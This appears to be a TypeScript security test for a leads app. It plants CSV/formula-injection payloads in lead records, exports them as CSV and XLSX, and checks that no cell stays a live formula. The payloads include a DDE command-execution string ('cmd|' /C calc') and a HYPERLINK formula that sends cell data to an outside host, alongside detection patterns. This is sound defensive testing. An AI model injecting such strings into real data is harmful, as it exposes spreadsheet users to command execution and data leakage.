import { setTimeout as sleep } from "node:timers/promises";
import { mutate, query, type Session } from "../product/api.ts";
import { readZip } from "../product/read-zip.ts";
import type { Product } from "../product/start-product.ts";
import type { TenantWorld } from "../product/world.ts";
import type { LeadsPart } from "./leads.ts";
import { nought, tried } from "./proof.ts";

const starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''=", '"=', " ="];
const bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.org?"&A1,"y")', "SUM(A1)", "1+1;x", '"a"'];
/** Before it stands what a spreadsheet of another country takes for the end of a cell. */
const before = ["", "a;", "a\t", "a|", "a,", "a\n", 'a";', 'a\n""', "a;'", ';"'];

const payloads: readonly string[] = before.flatMap((lead) =>
  starts.flatMap((start) => bodies.map((body) => `${lead}${start}${body}`)),
);

/** Every payload as a name, an employer, a tag and the value of an own field whose name is one itself. */
async function plant(product: Product, world: TenantWorld): Promise<void> {
  const { superuser } = product.database;
  const place = [world.tenantId, world.company.id];
  const field = await superuser.query<{ id: string }>(
    "INSERT INTO lead_fields (tenant_id, company_id, name, type) VALUES ($1, $2, $3, 'text') RETURNING id",
    [...place, "=1+1;=2+2"],
  );
  await superuser.query(
    `WITH given AS (
       SELECT payload, at FROM unnest($3::text[]) WITH ORDINALITY AS given (payload, at)
     ), lead AS (
       INSERT INTO leads (tenant_id, company_id, email, name, company)
       SELECT $1, $2, 'formula-' || at || '@example.org', payload, payload FROM given RETURNING id, email, name
     ), tag AS (
       INSERT INTO tags (tenant_id, company_id, name) SELECT DISTINCT $1::uuid, $2::uuid, left(payload, 60) FROM given
       ON CONFLICT DO NOTHING RETURNING id, name
     ), tagged AS (
       INSERT INTO lead_tags (tenant_id, company_id, lead_id, tag_id)
       SELECT $1, $2, lead.id, tag.id FROM lead JOIN tag ON tag.name = left(lead.name, 60)
     )
     INSERT INTO lead_field_values (tenant_id, company_id, lead_id, field_id, text)
     SELECT $1, $2, id, $4, name FROM lead`,
    [...place, payloads, field.rows[0]?.id],
  );
}

async function exported(session: Session, companyId: string, format: "csv" | "xlsx"): Promise<Buffer> {
  const { jobId } = await mutate<{ jobId: string }>(session, "leadJobs.export", {
    companyId,
    filter: {},
    format,
  });
  for (let tries = 0; tries < 600; tries += 1) {
    const { status } = await query<{ status: string }>(session, "leadJobs.byId", { jobId });
    if (status === "done") {
      const response = await fetch(`${session.url}/lead-exports/${jobId}?tenant=${session.slug}`, {
        headers: { cookie: session.cookie },
      });
      return Buffer.from(await response.arrayBuffer());
    }
    if (status === "failed") break;
    await sleep(100);
  }
  throw new Error(`The export as ${format} did not end`);
}

/** The cells of a text as a spreadsheet cuts it that takes this for the delimiter: what follows a quoted part is taken as it stands. */
function cut(csv: string, delimiter: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted, isStart] = ["", false, true];
  for (let at = 0; at < csv.length; at += 1) {
    const each = csv[at] ?? "";
    if (isQuoted && each === '"' && csv[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (isQuoted && each === '"') isQuoted = false;
    else if (!isQuoted && isStart && each === '"') isQuoted = true;
    else if (!isQuoted && (each === delimiter || each === "\n" || each === "\r")) {
      cells.push(cell);
      [cell, isStart] = ["", true];
      continue;
    } else cell += each;
    isStart = false;
  }
  return [...cells, cell];
}

const live = /^[=+\-@\uff0b\uff0d\uff1d\uff20]/;

/** Cells that are formulas, for spreadsheets of every country; and how many were looked at. */
function liveInCsv(csv: string): { cells: number; live: number } {
  const cells = [",", ";", "\t", "|"].flatMap((delimiter) => cut(csv, delimiter));
  return { cells: cells.length, live: cells.filter((cell) => live.test(cell)).length };
}

/** Cells that are anything but texts, or would become a formula when somebody edits them. */
function liveInSheet(xml: string): { cells: number; live: number } {
  const cells = xml.match(/<c [^>]*>.*?<\/c>/gs) ?? [];
  const isLive = (cell: string): boolean => {
    const head = /^<c [^>]*>/.exec(cell)?.[0] ?? "";
    const text = /<t[^>]*>(.*?)<\/t>/s.exec(cell)?.[1] ?? "";
    return (
      !head.includes('t="inlineStr"') || cell.includes("<f") || (live.test(text) && !head.includes('s="1"'))
    );
  };
  return { cells: cells.length, live: cells.filter(isLive).length };
}

/** What makes a workbook act by itself: macros, links to other files, connections. */
const acting = /vba|externalLink|connections|macrosheets|activeX|embeddings/i;

/** No cell of an exported file is a formula, whatever people have written into their leads. */
export const formulasPart: LeadsPart = async (product, world) => {
  await plant(product, world);
  const csv = (await exported(world.owner, world.company.id, "csv")).toString("utf8").replace(/^\ufeff/, "");
  const parts = readZip(await exported(world.owner, world.company.id, "xlsx"));
  const sheets = [...parts].filter(([path]) => path.includes("worksheets/"));
  const found = [liveInCsv(csv), ...sheets.map(([, xml]) => liveInSheet(xml))];
  const styles = parts.get("xl/styles.xml") ?? "";
  const isText = styles.includes('numFmtId="49"') && styles.includes('quotePrefix="1"');
  const sum = (key: "cells" | "live") => found.reduce((total, each) => total + each[key], 0);
  const others = [...parts.keys()].filter((path) => acting.test(path)).length + (isText ? 0 : 1);
  // The same files without their guards.
  const bare = liveInCsv(csv.replace(/'+(?=["]*[=+\-@])/g, "")).live;
  const planted = liveInSheet(
    '<c r="A1"><f>1+1</f><v>2</v></c><c r="A2" t="inlineStr"><is><t>=1</t></is></c>',
  ).live;
  return {
    figures: [
      tried("leads.export_payloads", payloads.length, 500),
      tried("leads.export_cells", sum("cells"), payloads.length * 10),
      nought("leads.export_formulas_live", sum("live") + others),
    ],
    isBrokenFound: bare > payloads.length && planted === 2,
  };
};
